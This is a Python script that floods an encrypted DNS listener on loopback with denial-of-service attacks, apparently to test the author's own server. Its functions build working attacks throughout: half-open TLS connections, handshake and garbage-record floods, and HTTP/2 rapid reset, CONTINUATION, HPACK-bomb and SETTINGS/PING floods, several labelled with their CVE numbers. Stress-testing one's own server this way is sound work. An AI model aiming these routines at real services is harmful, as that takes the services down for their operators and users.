"""Attacks an encrypted listener of 127.0.0.1 from 127.0.0.2 and other addresses of loopback.

    attack-tls.py ATTACK PORT SECONDS

half-open      2,000 connections that send a part of a ClientHello and stay; each that the server closes is opened anew
handshakes     full handshakes, one after the other on 20 connections
garbage        handshake records of 16 KiB without sense
rapid-reset    HTTP/2: 100 requests at once, each cancelled (CVE-2023-44487)
continuation   HTTP/2: header fields without an end (CVE-2024-27316)
bomb           HTTP/2: one indexed field of 4,000 octets, repeated 16,000 times in a request (CVE-2016-6581)
settings       HTTP/2: SETTINGS and PING, each of which wants an answer that is not read

Prints the number of connections that it opened. A connection that ends is opened anew, so the attack goes on.
"""

import itertools
import socket
import ssl
import sys
import time

attack, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
end = time.monotonic() + seconds
numbers = itertools.count()


def context(protocol):
    """Settings of a client that verifies nothing."""
    settings = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    settings.check_hostname = False
    settings.verify_mode = ssl.CERT_NONE
    settings.set_alpn_protocols([protocol])
    return settings


DOT, HTTP2 = context("dot"), context("h2")


def connect(tls=None):
    """A connection, with a handshake if there are settings for TLS."""
    number = next(numbers)
    stream = socket.create_connection(
        ("127.0.0.1", port), timeout=2, source_address=(f"127.0.0.{2 + number % 100}", 0)
    )
    return tls.wrap_socket(stream) if tls else stream


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header field that is not indexed (RFC 7541 section 6.2.2), of fewer than 127 octets each."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


# The root's NS records, by GET. 0x82 is GET, 0x87 is https.
FIELDS = b"\x82\x87" + literal(b":authority", b"localhost") + literal(b":path", b"/dns-query?dns=AAABAAABAAAAAAAAAAACAAE")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def half_open(connections=[]):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40)
    while len(connections) < 2000 and time.monotonic() < end:
        connections.append(connect())
        connections[-1].sendall(hello[: 8 * (len(connections) % 6)])
    for stream in connections[:]:
        stream.setblocking(False)
        try:
            stream.recv(1)
        except BlockingIOError:
            continue
        except OSError:
            pass
        stream.close()
        connections.remove(stream)
    time.sleep(0.05)


def handshakes():
    connect(DOT).close()


def garbage():
    stream = connect()
    while True:
        stream.sendall(b"\x16\x03\x03\x40\x00" + b"\x01\xff\xff\xff" + bytes(16380))


def requests(turn):
    stream = connect(HTTP2)
    stream.sendall(PREFACE)
    for number in itertools.count():
        if time.monotonic() >= end:
            return
        stream.sendall(turn(number))


def rapid_reset(number):
    streams = range(200 * number + 1, 200 * number + 201, 2)
    return b"".join(frame(1, 5, stream, FIELDS) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)


def continuation(number):
    field = literal(b"a", bytes(100)) * 100
    return frame(9 if number else 1, 0, 1, field)


def bomb(number):
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
    return frame(1, 5, 2 * number + 1, FIELDS + entry + b"\xbe" * 12000)


def settings(_):
    return (frame(4, 0, 0, b"\0\x03\0\0\0\x64") + frame(6, 0, 0, b"12345678")) * 500


turns = {"rapid-reset": rapid_reset, "continuation": continuation, "bomb": bomb, "settings": settings}
plain = {"half-open": half_open, "handshakes": handshakes, "garbage": garbage}
while time.monotonic() < end:
    try:
        requests(turns[attack]) if attack in turns else plain[attack]()
    except OSError:
        # The server has ended the connection, or is too busy to accept one.
        time.sleep(0.001)
print(next(numbers))
